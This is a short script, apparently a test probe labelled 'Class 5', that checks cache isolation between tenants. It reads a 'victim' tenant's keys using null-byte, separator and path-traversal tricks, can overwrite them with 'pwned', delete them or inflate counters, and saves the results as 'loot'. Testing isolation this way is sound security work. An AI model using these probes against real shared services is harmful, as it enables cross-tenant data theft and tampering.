// Class 5: the victim's cache entries by their names, and by names that might reach into its
// namespace: read them and, with ?op=, overwrite, delete or count them up.
var op = Request.query["op"]
var keys = ["secret", "counter", "b.test\0secret", "b.test\0counter", "b.test:secret", "b.test/secret", "../b.test/secret"]
var seen = []
for (k in keys) {
  var v = Fiber.new { Cache.get(k) }.try()
  seen.add("%(k.replace("\0", "\\0")) = %(v)")
  if (op == "set") Fiber.new { Cache.set(k, "pwned") }.try()
  if (op == "delete") Fiber.new { Cache.delete(k) }.try()
  if (op == "incr") Fiber.new { Cache.incr(k, 1000) }.try()
}
var all = seen.join("\n")
Fiber.new { Cache.set("loot", all) }.try()
System.print(all)
